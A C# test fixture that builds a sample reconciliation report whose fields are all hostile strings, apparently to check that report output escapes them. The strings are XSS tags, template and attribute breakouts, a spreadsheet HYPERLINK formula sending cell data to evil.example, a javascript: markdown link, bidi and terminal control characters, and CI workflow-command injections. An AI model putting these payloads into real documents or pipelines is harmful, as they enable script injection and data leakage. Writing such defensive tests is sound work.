using static Reconcile.Core.Tests.Reporting.Samples.StoryBuilder;

namespace Reconcile.Core.Tests.Reporting.Samples;

/// <summary>A story whose every field tries to break out of the report that shows it.</summary>
internal static class HostileStory
{
    public const string Script = "<script>alert('owned')</script><img src=x onerror=alert(1)>";
    public const string BreakOut = "\"]]></style></script><!--#{{7*7}}`${7*7}`-->'\" onmouseover=\"alert(2)";
    public const string Formula = "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")";
    public const string Turned = "a\u202Eb\u2066c\u200Fd\u061Ce";
    public const string Control = "x\u0000\u0007\u001b[31m\u001b]0;title\u0007\u009b2J\u0085\ud800z\udc00";
    public const string Markdown = "[a](javascript:alert(3)) ![i](http://evil.example/i.png) @everyone #1 ``` | http://evil.example www.evil.example";
    public const string WorkflowCommand = "::set-output name=x::y\n::error file=app.js::owned";

    public static IReadOnlyList<string> All { get; } = [Script, BreakOut, Formula, Turned, Control, Markdown, WorkflowCommand];

    public static Reconciliation Report { get; } = Make();

    private static Reconciliation Make()
    {
        var story = new StoryBuilder();
        var left = new List<string>();
        var right = new List<string>();
        foreach (string bad in All)
        {
            story.Article($"{bad}-1", bad, "2024-05-03", $"Before {bad} after.\nSecond {bad} line.", path: $"../{bad}.txt", origin: bad, title: bad);
            left.Add(story.Claim(bad, new Quantity { Low = double.NegativeInfinity, High = 3, Counted = bad, Unit = bad }, Day("2024-05-03"), Says(bad)));
            story.Article($"{bad}-2", bad, null, bad);
            right.Add(story.Claim(bad, Exactly(5, bad), null, Says(bad, Stance.Denies)));
        }

        foreach (string bad in All)
            story.Finding(
                FindingRelation.Contradiction, ConflictType.Count, 0.9, bad, bad, bad,
                (bad, [.. left]), (bad, [.. right]));
        foreach (string bad in All) story.NonConflicts.Add(new NonConflict(left[0], right[0], bad, bad));
        return WithProvenance(story.Build());
    }

    /// <summary>Two stories, everybody copied from the first article, and every article calls itself corrected.</summary>
    private static Reconciliation WithProvenance(Reconciliation report) => report with
    {
        Stories = [.. report.Articles.Chunk(All.Count).Select(part => new Story(part[0].Id, [.. part], part[0].Text))],
        Origins = [.. report.Articles.Select((article, i) => new ArticleOrigin
        {
            Article = article.Id,
            Origin = All[i % 2],
            Agency = article.Text,
            AgencyContributed = i % 3 == 0,
            Publisher = All[i % 2],
            Because = article.Text,
            Versions = [new VersionNote(VersionKind.Corrected, new TextSpan(0, article.Text.Length))],
            Shared = [new SharedText(report.Articles[0].Id, 0.75, i % 2 == 0 ? CopyDirection.From : CopyDirection.Unknown)],
        })],
    };
}
